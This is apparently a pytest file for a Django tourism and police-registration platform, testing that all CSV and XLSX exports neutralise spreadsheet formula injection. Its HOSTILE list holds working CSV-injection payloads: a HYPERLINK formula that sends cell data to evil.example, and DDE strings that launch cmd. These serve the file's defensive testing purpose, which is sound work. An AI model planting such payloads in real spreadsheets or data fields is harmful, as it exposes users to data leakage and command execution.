"""Every export of the platform goes through one neutralising writer (cms.exports): no cell
a spreadsheet would run, no character XML forbids, whatever was stored.

Found from outside: an officer's crafted parameter stored in the audit log came out of the
auditors' CSV as a live formula, and a destination titled =HYPERLINK(...) became a real
formula in the editors' CSV/XLSX export.
"""

import csv
import io
from collections import Counter

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from cms import exports, spreadsheets
from lodging.police import statistics
from lodging.police.models import AuditEvent
from lodging.services import register_stays
from search.models import Synonym
from tests.auth import sign_in
from tests.lodging.conftest import owner, vietnamese_guest  # noqa: F401
from tests.police.conftest import auditor  # noqa: F401  (fixture)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def _cells_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))
            for cell in row]


def _cells_xlsx(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_neutralised(cells, *texts):
    for text in texts:
        found = [c for c in cells if isinstance(c, str) and text.strip() in c]
        assert found, (text, cells[:40])
        for cell in found:
            assert cell.startswith("'"), cell


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_neutralises_what_a_spreadsheet_would_run(value):
    assert exports.safe_cell(value) == "'" + value
    assert exports.safe_cell("Nguyễn\x1b[2J Văn\x00 An") == "Nguyễn[2J Văn An"
    assert exports.safe_cell(-5) == -5 and exports.safe_cell("Phòng 101") == "Phòng 101"


def test_the_audit_log_csv_neutralises_crafted_parameters(client, auditor, sapa_officer):  # noqa: F811
    AuditEvent.objects.create(user=sapa_officer, at=timezone.now(), action="timeline",
                              params={"type": HYPERLINK}, object_ref=f"{HYPERLINK}:1")
    sign_in(client, auditor)
    cells = _cells_csv(_body(client.get("/en/police/audit/", {"format": "csv"})))
    assert_neutralised(cells, f"{HYPERLINK}:1")
    assert not any(cell.lstrip().startswith(("=", "+", "@")) for cell in cells)


@pytest.fixture
def hostile_destination(db):
    from tourism import services

    services.ensure_sections()
    services.save_place(slug="ban-doc", kind="destination",
                        titles={"vi": HYPERLINK, "en": "@SUM(A1:A9)"},
                        summaries={"vi": "-2+3+cmd|' /C calc'!A0", "en": "Bản\x1b làng"},
                        commune=None, latitude=None, longitude=None, tags=[])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_editors_destinations_export_neutralises_titles(
        fmt, client, django_user_model, hostile_destination):
    editor = django_user_model.objects.create_superuser("bien-tap", password="x" * 12)
    sign_in(client, editor)
    response = client.get(reverse("tourism_export", args=[fmt]))
    assert response.status_code == 200
    cells = (_cells_csv if fmt == "csv" else _cells_xlsx)(_body(response))
    assert_neutralised(cells, HYPERLINK, "@SUM(A1:A9)", "-2+3+cmd")
    assert "Bản làng" in cells


def test_the_import_export_command_and_formats_neutralise(hostile_destination, capsys):
    call_command("export", "CSV", "tourism.resources.DestinationResource")
    assert_neutralised(_cells_csv(capsys.readouterr().out.encode()), HYPERLINK)
    from tourism.resources import DestinationResource

    dataset = DestinationResource().export()
    for format_class in (spreadsheets.CSV, spreadsheets.XLSX):
        content = format_class().export_data(dataset)
        content = content.encode() if isinstance(content, str) else content
        cells = (_cells_csv if format_class is spreadsheets.CSV else _cells_xlsx)(content)
        assert_neutralised(cells, HYPERLINK)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_hotels_own_export_neutralises(fmt, client, receptionist, owner, homestay):  # noqa: F811
    register_stays(user=receptionist, establishment=homestay,
                   guests=[vietnamese_guest(room="=1+2", reason="@SUM(A1)")])
    sign_in(client, owner)  # exports are the owner's
    response = client.get(f"/stays/export.{fmt}")
    cells = (_cells_csv if fmt == "csv" else _cells_xlsx)(_body(response))
    assert_neutralised(cells, "=1+2", "@SUM(A1)")


def test_the_statistics_workbook_neutralises_its_keys():
    table = statistics.Table(arrivals=Counter({"=1+1": 2}), nights=Counter({"=1+1": 3}))
    content = statistics.as_databook({"nationality": table}, {"nationality": "=By"},
                                     ("Arrivals", "Nights"))
    assert_neutralised(_cells_xlsx(content), "=1+1", "=By")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtail_list_exports_go_through_the_writer(fmt, client, django_user_model):
    Synonym.objects.create(terms=f"{HYPERLINK}\nSa Pa", note="@SUM(A1:A9)")
    editor = django_user_model.objects.create_superuser("bien-tap", password="x" * 12)
    sign_in(client, editor)
    url = reverse("wagtailsnippets_search_synonym:list")
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200
    cells = (_cells_csv if fmt == "csv" else _cells_xlsx)(_body(response))
    assert_neutralised(cells, "@SUM(A1:A9)")
